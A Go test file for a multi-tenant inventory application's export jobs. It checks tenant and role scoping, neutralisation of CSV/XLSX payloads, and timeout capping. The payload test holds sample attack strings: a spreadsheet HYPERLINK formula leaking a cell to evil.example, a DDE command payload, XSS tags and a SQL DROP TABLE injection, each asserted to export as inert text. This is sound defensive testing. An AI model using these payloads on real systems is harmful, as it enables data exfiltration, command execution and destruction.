package jobs_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"ledgerline/jobs"
	"ledgerline/store"
	"ledgerline/store/exports"
	"ledgerline/store/identity"
	"ledgerline/store/inventory"
	"ledgerline/store/storetest"
)

// TestExportRunsUnderRequesterRights: the job reads with the requester's scope, so another tenant's rows
// never appear, and a requester who lost the right by the time the job runs gets a failed export, not a file.
func TestExportRunsUnderRequesterRights(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := storetest.New(t).DB
	tenant := func(slug string) store.ID {
		ten, err := identity.TenantCreate(ctx, db, store.Scope{}, identity.TenantCreateParams{Name: slug, Slug: slug, TimeZone: "UTC", Currency: "EUR"})
		require.NoError(t, err)
		return ten.ID
	}
	a, b := tenant("rls-a"), tenant("rls-b")
	member := func(ten store.ID, role identity.Role, email string) store.Scope {
		id := store.NewID()
		_, err := db.X.ExecContext(ctx, `INSERT INTO users (id, email, name, password_hash) VALUES ($1, $2, $2, 'x')`, id, email)
		require.NoError(t, err)
		require.NoError(t, identity.MemberAdd(ctx, db, store.Scope{TenantID: ten}, identity.MemberAddParams{UserID: id, Role: role}))
		return store.Scope{TenantID: ten, ActorID: id}
	}
	admin := member(a, identity.RoleAdmin, "admin@rls-a.example")
	mgr := member(a, identity.RoleManager, "manager@rls-a.example")
	for _, sku := range []string{"A-1", "A-2"} {
		_, err := inventory.ItemCreate(ctx, db, store.Scope{TenantID: a}, inventory.ItemFields{SKU: sku, Name: "Thing " + sku, Unit: "ea"})
		require.NoError(t, err)
	}
	_, err := inventory.ItemCreate(ctx, db, store.Scope{TenantID: b}, inventory.ItemFields{SKU: "B-1", Name: "Thing of B", Unit: "ea"})
	require.NoError(t, err)
	catalog := jobs.ExportCatalog()
	run := func(sc store.Scope, kind exports.Kind) *exports.Export {
		x, err := exports.Create(ctx, db, sc, exports.CreateParams{Kind: kind, Format: exports.FormatCSV})
		require.NoError(t, err)
		return x
	}
	finish := func(x *exports.Export) *exports.Export {
		require.NoError(t, exports.Run(ctx, db, catalog, exports.RunArgs{TenantID: a, ExportID: x.ID}, 1, exports.RunOpts{}))
		got, err := exports.Get(ctx, db, admin, x.ID)
		require.NoError(t, err)
		return got
	}

	x := finish(run(mgr, exports.KindInventoryItems))
	require.Equal(t, exports.StateDone, x.State)
	_, r, err := exports.Download(ctx, db, mgr, x.ID)
	require.NoError(t, err)
	body, err := io.ReadAll(r)
	require.NoError(t, err)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff")))).ReadAll()
	require.NoError(t, err)
	var skus []string
	for _, rec := range recs[1:] {
		skus = append(skus, rec[0])
	}
	require.Equal(t, []string{"A-1", "A-2"}, skus, "only tenant A's items")

	// Exports queued by the admin (audit log) and the manager (items); then both are demoted to employee,
	// who may not export: the jobs fail with the reason and leave no file.
	audit := run(admin, exports.KindAuditEvents)
	items := run(mgr, exports.KindInventoryItems)
	require.NoError(t, db.InTenant(ctx, store.Scope{TenantID: a}, func(tx *store.Tx) error {
		_, err := tx.ExecContext(ctx, `UPDATE memberships SET role = 'employee' WHERE tenant_id = $1 AND user_id = $2`, a, mgr.ActorID)
		return err
	}))
	got := finish(items)
	require.Equal(t, exports.StateFailed, got.State)
	require.Contains(t, got.Error, "Your role does not allow this")
	require.Nil(t, got.FileID)
	// The admin, demoted to manager, may not read the audit log any more.
	admin2 := member(a, identity.RoleAdmin, "admin2@rls-a.example")
	require.NoError(t, db.InTenant(ctx, store.Scope{TenantID: a}, func(tx *store.Tx) error {
		_, err := tx.ExecContext(ctx, `UPDATE memberships SET role = 'manager' WHERE tenant_id = $1 AND user_id = $2`, a, admin.ActorID)
		return err
	}))
	require.NoError(t, exports.Run(ctx, db, catalog, exports.RunArgs{TenantID: a, ExportID: audit.ID}, 1, exports.RunOpts{}))
	got, err = exports.Get(ctx, db, admin2, audit.ID)
	require.NoError(t, err)
	require.Equal(t, exports.StateFailed, got.State)
}

// TestExportNeutralisesPayloads: text saved with an XSS payload, a spreadsheet formula and SQL
// metacharacters comes out of CSV and XLSX exports as inert text: every cell that a spreadsheet would
// evaluate starts with an apostrophe, no XLSX cell holds a formula, the markup is escaped in the sheet's
// XML (which stays well-formed) and the text is otherwise unchanged.
func TestExportNeutralisesPayloads(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	db := storetest.New(t).DB
	ten, err := identity.TenantCreate(ctx, db, store.Scope{}, identity.TenantCreateParams{Name: "probe", Slug: "probe-x", TimeZone: "UTC", Currency: "EUR"})
	require.NoError(t, err)
	admin := store.Scope{TenantID: ten.ID, ActorID: store.NewID()}
	_, err = db.X.ExecContext(ctx, `INSERT INTO users (id, email, name, password_hash) VALUES ($1, 'admin@probe-x.example', 'Admin', 'x')`, admin.ActorID)
	require.NoError(t, err)
	require.NoError(t, identity.MemberAdd(ctx, db, store.Scope{TenantID: ten.ID}, identity.MemberAddParams{UserID: admin.ActorID, Role: identity.RoleAdmin}))

	const (
		xss     = `=HYPERLINK("https://evil.example/?"&A1,"<script>alert(1)</script>")`
		plus    = `+1+cmd|' /C calc'!A0 <img src=x onerror=alert(2)>`
		at      = `@SUM(1+1)'; DROP TABLE inventory_items;--`
		minus   = `-2+3 "quoted" </td><b>bold</b>`
		harmles = `Plain <i>name</i> & 'quotes'; --`
	)
	_, err = inventory.ItemCreate(ctx, db, admin, inventory.ItemFields{SKU: "P-1", Name: xss, Category: plus, Unit: "ea", Barcode: "B1"})
	require.NoError(t, err)
	_, err = inventory.ItemCreate(ctx, db, admin, inventory.ItemFields{SKU: "P-2", Name: at, Category: minus, Unit: "ea", Barcode: "B2"})
	require.NoError(t, err)
	_, err = inventory.ItemCreate(ctx, db, admin, inventory.ItemFields{SKU: "P-3", Name: harmles, Category: "\tTabbed", Unit: "ea", Barcode: "B3"})
	require.NoError(t, err)
	want := map[string][2]string{ // SKU -> name, category as a spreadsheet must show them
		"P-1": {"'" + xss, "'" + plus},
		"P-2": {"'" + at, "'" + minus},
		"P-3": {harmles, "Tabbed"}, // the store trims surrounding whitespace; nothing to neutralise then
	}

	catalog := jobs.ExportCatalog()
	export := func(f exports.Format) []byte {
		x, err := exports.Create(ctx, db, admin, exports.CreateParams{Kind: exports.KindInventoryItems, Format: f})
		require.NoError(t, err)
		require.NoError(t, exports.Run(ctx, db, catalog, exports.RunArgs{TenantID: ten.ID, ExportID: x.ID}, 1, exports.RunOpts{}))
		got, err := exports.Get(ctx, db, admin, x.ID)
		require.NoError(t, err)
		require.Equal(t, exports.StateDone, got.State, got.Error)
		_, r, err := exports.Download(ctx, db, admin, x.ID)
		require.NoError(t, err)
		body, err := io.ReadAll(r)
		require.NoError(t, err)
		return body
	}

	t.Run("CSV", func(t *testing.T) {
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export(exports.FormatCSV), []byte("\ufeff")))).ReadAll()
		require.NoError(t, err)
		require.Len(t, recs, 4)
		for _, rec := range recs[1:] {
			w, ok := want[rec[0]]
			require.True(t, ok, rec[0])
			require.Equal(t, w[0], rec[1], "name of %s", rec[0])
			require.Equal(t, w[1], rec[2], "category of %s", rec[0])
			for i, cell := range rec {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s column %d would be evaluated: %q", rec[0], i, cell)
				}
			}
		}
	})

	t.Run("XLSX", func(t *testing.T) {
		body := export(exports.FormatXLSX)
		zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
		require.NoError(t, err)
		for _, zf := range zr.File {
			if !strings.HasSuffix(zf.Name, ".xml") {
				continue
			}
			rc, err := zf.Open()
			require.NoError(t, err)
			x, err := io.ReadAll(rc)
			require.NoError(t, rc.Close())
			require.NoError(t, err)
			// Well-formed XML, no formula anywhere, no raw markup from the payloads.
			dec := xml.NewDecoder(bytes.NewReader(x))
			for {
				tok, err := dec.Token()
				if err == io.EOF {
					break
				}
				require.NoError(t, err, zf.Name)
				if se, ok := tok.(xml.StartElement); ok {
					require.NotEqual(t, "f", se.Name.Local, "a formula in %s", zf.Name)
					require.NotContains(t, []string{"script", "img", "b", "i", "td"}, se.Name.Local, "payload markup became an element in %s", zf.Name)
				}
			}
		}
		f, err := excelize.OpenReader(bytes.NewReader(body))
		require.NoError(t, err)
		defer func() { require.NoError(t, f.Close()) }()
		rows, err := f.GetRows(f.GetSheetName(0))
		require.NoError(t, err)
		require.Len(t, rows, 4)
		for i, row := range rows[1:] {
			w, ok := want[row[0]]
			require.True(t, ok, row[0])
			require.Equal(t, w[0], row[1], "name of %s", row[0])
			require.Equal(t, w[1], row[2], "category of %s", row[0])
			for col := 1; col <= len(row); col++ {
				cell, err := excelize.CoordinatesToCellName(col, i+2)
				require.NoError(t, err)
				formula, err := f.GetCellFormula(f.GetSheetName(0), cell)
				require.NoError(t, err)
				require.Empty(t, formula, cell)
			}
		}
	})
}

// TestExportTimeoutCappedByRescue: River rescues a dead worker's job only after the job's timeout, so the
// export's hour is capped by JOB_RESCUE_AFTER when that is set.
func TestExportTimeoutCappedByRescue(t *testing.T) {
	t.Parallel()
	require.Equal(t, time.Hour, (&jobs.ExportRunWorker{}).Timeout(nil))
	require.Equal(t, 30*time.Second, (&jobs.ExportRunWorker{MaxDuration: 30 * time.Second}).Timeout(nil))
	require.Equal(t, time.Hour, (&jobs.ExportRunWorker{MaxDuration: 3 * time.Hour}).Timeout(nil))
}
